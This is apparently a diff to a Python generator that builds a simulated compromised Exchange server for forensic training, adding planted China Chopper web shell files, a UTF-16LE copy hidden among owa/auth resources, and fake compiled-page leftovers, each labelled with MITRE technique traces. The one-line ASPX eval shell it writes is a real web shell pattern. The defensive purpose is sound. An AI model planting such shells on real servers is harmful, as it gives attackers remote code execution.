@@ -768,6 +768,18 @@ def chopper_one_liner(key: str) -> str:
     return inert_wrap('<%@ Page Language="Jscript"%><%eval(Request.Item["' + key + '"],"unsafe");%>')
 
 
+def compiled_page_placeholder(virtual_path: str, assembly: str) -> bytes:
+    """Bytes shaped like the strings of a compiled China Chopper page (App_Web_*.dll): an MZ header,
+    the ASCII metadata names ASP.NET emits and the page's UTF-16LE virtual path. Not a program."""
+    data = bytearray(b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode.\r\n" + INERT_BANNER.encode() + b"\r\n")
+    data += b"PE\x00\x00" + bytes(64)
+    for name in (assembly, "ASP", "aspnet_client_discover_aspx", "Page_Load", "get_Request", "get_Item",
+                 "Microsoft.JScript", "JScriptEvaluate", "System.Web.UI.Page"):
+        data += name.encode() + b"\x00"
+    data += virtual_path.encode("utf-16-le") + b"\x00\x00" + "unsafe".encode("utf-16-le") + b"\x00\x00"
+    return bytes(data + bytes(8192 - len(data)))
+
+
 def regf_placeholder(name: str, stamp: dt.datetime, size: int = 8192) -> bytes:
     """A registry *placeholder*: a plausible 4 KiB base block, then zeros. Not a real hive."""
     ft = int((stamp - dt.datetime(1601, 1, 1, tzinfo=UTC)).total_seconds() * 10_000_000)
@@ -1327,6 +1339,26 @@ def make_compromised(root: pathlib.Path) -> Tree:
     tree.write_text(f"inetpub/wwwroot/aspnet_client/{chopper2}", chopper_one_liner("Ananas"),
                     Trace("C09/C10", f"aspnet_client\\{chopper2}: one-line China Chopper (name IOC discover.aspx)",
                           "T1505.003", T_CONFIRMED))
+
+    # A Chopper page saved as UTF-16LE (with BOM) among owa/auth's static resources, never requested.
+    tree.write_bytes(f"{srv.exch_rel}/FrontEnd/HttpProxy/owa/auth/Current/themes/resources/errorEW.aspx",
+                     b"\xff\xfe" + chopper_one_liner("Ananas").replace("\n", CRLF).encode("utf-16-le"),
+                     Trace("C09/C10", "UTF-16LE China Chopper page among owa\\auth\\Current resources (a server page where only "
+                                      "css/js/images belong; look-alike name errorEW.aspx); no request logged",
+                           "T1505.003", T_CONFIRMED))
+    # The compiled form of an earlier aspnet_client shell whose .aspx is gone.
+    tree.write_bytes("Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/7c1e55a2/3b9d04f1/App_Web_k4p2x9qz.dll",
+                     compiled_page_placeholder("~/aspnet_client/system_web/4_0_30319/healthcheck.aspx", "App_Web_k4p2x9qz"),
+                     Trace("C11", "Temporary ASP.NET Files App_Web_k4p2x9qz.dll: compiled page of ~/aspnet_client/.../healthcheck.aspx "
+                                  "with JScriptEvaluate (the source page no longer exists)", "T1505.003", T_CONFIRMED))
+    tree.write_text("Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/7c1e55a2/3b9d04f1/"
+                    "healthcheck.aspx.cdcab7d2.compiled",
+                    '<?xml version="1.0" encoding="utf-8"?>\n<preserve resultType="3" virtualPath="/aspnet_client/system_web/4_0_30319/'
+                    'healthcheck.aspx" hash="16f4b5a35" filehash="cfde5fbd4b3a83fe" flags="110000" assembly="App_Web_k4p2x9qz" '
+                    'type="ASP.aspnet_client_system_web_4_0_30319_healthcheck_aspx">\n    <filedeps>\n        <filedep '
+                    'name="/aspnet_client/system_web/4_0_30319/healthcheck.aspx" />\n    </filedeps>\n</preserve>\n',
+                    Trace("C11", "preserve record healthcheck.aspx.cdcab7d2.compiled: virtualPath under /aspnet_client/, page not in the bundle",
+                          "T1505.003", T_LIKELY))
 
     # ---- dumps, staging, lateral movement ----
     dump1 = build_minidump(int(d(2021, 3, 3, 7, 47, 12).timestamp()), 40960, seed=11)
